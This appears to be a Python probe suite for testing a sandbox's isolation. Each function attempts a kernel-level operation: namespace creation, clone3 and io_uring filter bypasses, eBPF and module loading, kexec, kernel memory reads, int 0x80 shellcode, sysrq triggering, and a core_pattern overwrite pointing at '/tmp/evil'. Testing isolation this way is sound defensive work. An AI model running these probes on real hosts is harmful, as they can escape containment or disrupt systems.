"""Attacks on the system's kernel: its parts that no session needs, and its switches."""

from __future__ import annotations

import ctypes
import fcntl
import os
import platform
import socket
import struct
from typing import Any

Host = dict[str, Any]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"
NUMBERS = {
    "clone": 56 if X86 else 220,
    "bpf": 321 if X86 else 280,
    "perf_event_open": 298 if X86 else 241,
    "seccomp": 317 if X86 else 277,
    "add_key": 248 if X86 else 217,
    "keyctl": 250 if X86 else 219,
    "userfaultfd": 323 if X86 else 282,
    "init_module": 175 if X86 else 105,
    "finit_module": 313 if X86 else 273,
    "kexec_load": 246 if X86 else 104,
    "quotactl": 179 if X86 else 60,
    "syslog": 103 if X86 else 116,
    "io_uring_setup": 425,
    "clone3": 435,
    "open_tree": 428,
    "fsopen": 430,
    "mount_setattr": 442,
}


def _call(name: str, *arguments: object) -> object:
    got = libc.syscall(NUMBERS[name], *arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), name)
    return f"{name}: {got}"


def new_user_namespace(host: Host) -> object:
    """Become root in a user namespace of one's own, from where most holes are in reach."""
    if libc.unshare(0x10000000) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return "entered"


def new_network_namespace(host: Host) -> object:
    """Take a new network namespace."""
    if libc.unshare(0x40000000) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return "entered"


def clone_user_namespace(host: Host) -> object:
    """Take a user namespace by a flag of clone."""
    return _call("clone", ctypes.c_ulong(0x10000000 | 17), 0, 0, 0, 0)


def clone3_user_namespace(host: Host) -> object:
    """Take a user namespace by clone3, whose flags a filter cannot see."""
    arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17, 0, 0, 0)
    return _call("clone3", ctypes.byref(arguments), ctypes.c_size_t(64))


def mount_something(host: Host) -> object:
    """Mount a tmpfs."""
    if libc.mount(b"x", b"/tmp", b"tmpfs", ctypes.c_ulong(0), None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return "mounted"


def mount_proc(host: Host) -> object:
    """Mount a /proc without what covers it."""
    os.makedirs("p", exist_ok=True)
    if libc.mount(b"proc", b"p", b"proc", ctypes.c_ulong(0), None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return os.listdir("p")


def new_mount_interface(host: Host) -> object:
    """Mount by the newer calls."""
    return _call("fsopen", b"tmpfs", 0)


def copy_mount(host: Host) -> object:
    """Take a copy of the tree of mounts."""
    return _call("open_tree", -100, b"/", ctypes.c_uint(1))


def change_root(host: Host) -> object:
    """Leave by chroot and dots."""
    os.chroot(".")
    return "changed"


def io_uring(host: Host) -> object:
    """Make system calls past the filter by io_uring."""
    return _call("io_uring_setup", 8, ctypes.create_string_buffer(256))


def ebpf(host: Host) -> object:
    """Load a program into the kernel."""
    attributes = (ctypes.c_uint32 * 32)(2, 4, 8, 1)
    return _call("bpf", 0, ctypes.byref(attributes), 128)


def socket_filter(host: Host) -> object:
    """Give a socket a program, whose machine code uses up a bound of the whole host."""
    instructions = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(instructions))
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, 26, program)  # SO_ATTACH_FILTER
    return "attached"


def call_filter(host: Host) -> object:
    """Do so by a filter of system calls, which a descriptor keeps when its thread has ended."""
    instructions = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
    program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(instructions))
    libc.prctl(38, *(ctypes.c_ulong(value) for value in (1, 0, 0, 0)))  # PR_SET_NO_NEW_PRIVS
    return _call("seccomp", 1, 8, program)


def perf(host: Host) -> object:
    """Count events of the processor."""
    attributes = (ctypes.c_uint32 * 32)(1, 128)
    return _call("perf_event_open", ctypes.byref(attributes), 0, -1, -1, 0)


def keyring(host: Host) -> object:
    """Read keys: keyrings have no namespace."""
    return _call("keyctl", 0, -5, 1)


def add_key(host: Host) -> object:
    """Leave a key for others."""
    return _call("add_key", b"user", b"x", b"y", 1, -5)


def userfault(host: Host) -> object:
    """Stop the kernel in the middle of a copy."""
    return _call("userfaultfd", 1)


def load_module(host: Host) -> object:
    """Load a module into the kernel."""
    return _call("finit_module", 0, b"", 0)


def load_kernel(host: Host) -> object:
    """Load another kernel."""
    return _call("kexec_load", 0, 0, 0, 0)


def read_kernel_log(host: Host) -> object:
    """Read the kernel's log with its addresses."""
    return _call("syslog", 3, ctypes.create_string_buffer(64), 64)


def sysrq(host: Host) -> object:
    """Pull the emergency brake."""
    with open("/proc/sysrq-trigger", "w") as file:
        return file.write("h")


def kernel_switch(host: Host) -> object:
    """Change a setting of the kernel: the helper that root would execute."""
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        return file.write("|/tmp/evil")


def pressure_triggers(host: Host) -> object:
    """Have the kernel watch for shortages, so that each process takes it long to end."""
    names = ("cpu", "io", "memory")
    files = [os.open(f"/proc/pressure/{name}", os.O_RDWR) for name in names]
    return [os.write(file, b"some 150000 2000000\0") for file in files]


def host_name(host: Host) -> object:
    """Rename the host."""
    if libc.sethostname(b"evil", 4) < 0:
        raise OSError(ctypes.get_errno(), "sethostname")
    return "renamed"


def set_clock(host: Host) -> object:
    """Turn the clock."""
    import time

    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "set"


def kernel_memory(host: Host) -> object:
    """Read the kernel's memory."""
    return open("/proc/kcore", "rb").read(4)


def foreign_architecture(host: Host) -> object:
    """Make a 32-bit system call, whose numbers a filter may not know."""
    if not X86:
        return None
    import mmap

    # mov eax, 20 (getpid of i386); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def cgroup_escape(host: Host) -> object:
    """Set a release agent, which the host would run as root."""
    return os.listdir("/sys/fs/cgroup")


def shared_memory_of_host(host: Host) -> object:
    """Find System V shared memory of others."""
    return [line for line in open("/proc/sysvipc/shm") if f" {host['shm_id']} " in line]


def map_of_the_disk(host: Host) -> object:
    """Have Linux walk the whole disk in one step (FS_IOC_GETFSMAP)."""
    head = struct.pack("IIII6Q", 0, 0, 0, 0, *[0] * 6)
    low = struct.pack("II4Q3Q", *[0] * 9)
    high = struct.pack("II4Q3Q", *[2**32 - 1] * 2, *[2**64 - 1] * 4, 0, 0, 0)
    with open("fsmap", "wb") as file:
        fcntl.ioctl(file, 0xC0C0583B, head + low + high)
    return "walked"


def map_of_a_file(host: Host) -> object:
    """Have it walk all pieces of a file in one step (FS_IOC_FIEMAP)."""
    with open("fiemap", "wb") as file:
        fcntl.ioctl(file, 0xC020660B, struct.pack("QQIIII", 0, 2**63, 0, 0, 0, 0))
    return "walked"
